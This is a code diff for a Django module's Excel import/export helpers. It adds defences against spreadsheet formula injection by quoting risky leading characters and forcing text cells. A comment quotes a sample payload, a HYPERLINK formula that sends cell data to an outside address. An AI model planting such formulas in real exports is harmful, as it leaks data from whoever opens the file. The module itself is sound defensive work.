@@ -1,24 +1,32 @@
-"""What every Excel import shares (people, training sessions, questions, grading standards).
+"""What every Excel import and export shares (people, training, questions, grading).
 
 An import is a background job: the upload is checked and stored, the job reads the workbook,
 validates every row and imports all of them or none, reporting each bad row with its row number,
 column and reason. This module holds the parts that are the same for each: the column
 definition, headers accepted in either language, choice values accepted by code or by label,
 opening the workbook and mapping its header row, and starting the job.
+
+Every workbook the product writes (exports and import templates) starts at ``new_workbook``:
+its sheets write text as text, never as a formula (see ``as_text``).
 """
 
 from __future__ import annotations
 
+import datetime
 import io
 import re
 import zipfile
 from dataclasses import dataclass
+from decimal import Decimal
 
 from django.conf import settings
 from django.utils.translation import gettext as _
 from django.utils.translation import override as translation_override
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.utils.exceptions import InvalidFileException
+from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+from openpyxl.worksheet.worksheet import Worksheet
 
 from compliance.files import validate_upload
 
@@ -111,3 +119,102 @@ def start_import(*, scope, user, kind: str, org_unit, upload) -> Job:
         input_bytes=upload.read(),
         input_suffix=".xlsx",
     )
+
+
+# --- writing ---------------------------------------------------------------------------------------------
+# A text cell starting with one of these is taken for a formula by Excel, WPS or LibreOffice: on
+# opening, when the cell is edited, or once the sheet is saved as CSV (OWASP, "CSV injection").
+# A person named =HYPERLINK("http://…"&A1,"点击") would otherwise run in the hands of whoever opens
+# the export, a regulator included. The full-width forms are there too: Chinese input methods type
+# them, and a spreadsheet program that folds them to the ASCII sign when a cell is re-entered
+# would otherwise see a formula; a quote before such a text costs nothing.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+# Written before such a text, as OWASP advises; the cell is stored as a string cell as well, so
+# no program evaluates it even where the quote is not understood.
+QUOTE = "'"
+# Written as they are: a number stays a number (-5 included), a date a date.
+NATIVE = (bool, int, float, Decimal, datetime.date, datetime.datetime, datetime.time, datetime.timedelta)
+
+
+def as_text(value) -> str:
+    """User text as written to a cell: characters XML cannot hold dropped (openpyxl would refuse
+    the whole file), and a formula trigger at the start neutralised by the quote."""
+    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
+    return QUOTE + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def from_text(value):
+    """A cell value as read back: the quote ``as_text`` put before a formula trigger removed, so
+    that an exported sheet imports again as the same text."""
+    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(FORMULA_TRIGGERS):
+        return value[1:]
+    return value
+
+
+def _cell(ws, value) -> Cell | None:
+    if value is None:
+        return None
+    if isinstance(value, Cell):
+        return value
+    # Placed where the sheet puts it; row and column are set so openpyxl can name it meanwhile.
+    if isinstance(value, NATIVE):
+        return Cell(ws, row=1, column=1, value=value)
+    cell = Cell(ws, row=1, column=1, value=as_text(value))
+    # Also a text such as "#N/A" would otherwise become an error cell.
+    cell.data_type = "s"
+    return cell
+
+
+class _TextSafe:
+    """What both kinds of sheet share: every value set goes through ``_cell``."""
+
+    def append(self, iterable):
+        super().append([_cell(self, value) for value in iterable])
+
+
+class _Sheet(_TextSafe, Worksheet):
+    def cell(self, row, column, value=None):
+        cell = super().cell(row, column)
+        if value is not None:
+            self._set(cell, value)
+        return cell
+
+    def __setitem__(self, key, value):
+        self._set(self[key], value)
+
+    @staticmethod
+    def _set(cell, value) -> None:
+        safe = _cell(cell.parent, value)
+        cell.value = safe.value if safe is not None else None
+        if safe is not None:
+            cell.data_type = safe.data_type  # after the value: setting it guesses the type again
+
+
+class _WriteOnlySheet(_TextSafe, WriteOnlyWorksheet):
+    pass
+
+
+class _Workbook(Workbook):
+    def __init__(self, *, write_only: bool = False):
+        super().__init__(write_only=write_only)
+        if not write_only:
+            self._sheets = [_Sheet(self)]
+
+    def create_sheet(self, title=None, index=None):
+        sheet = (_WriteOnlySheet if self.write_only else _Sheet)(parent=self, title=title)
+        self._add_sheet(sheet=sheet, index=index)
+        return sheet
+
+
+def new_workbook(*, write_only: bool = False) -> Workbook:
+    """A workbook whose sheets write text as text (``ws.append``, ``ws.cell(value=…)``,
+    ``ws["A1"] = …``) and numbers and dates as numbers and dates. The only way the product
+    makes a workbook; ``tests/jobs/test_excel_writer.py`` fails on
+    any other."""
+    return _Workbook(write_only=write_only)
+
+
+def workbook_bytes(wb: Workbook) -> bytes:
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
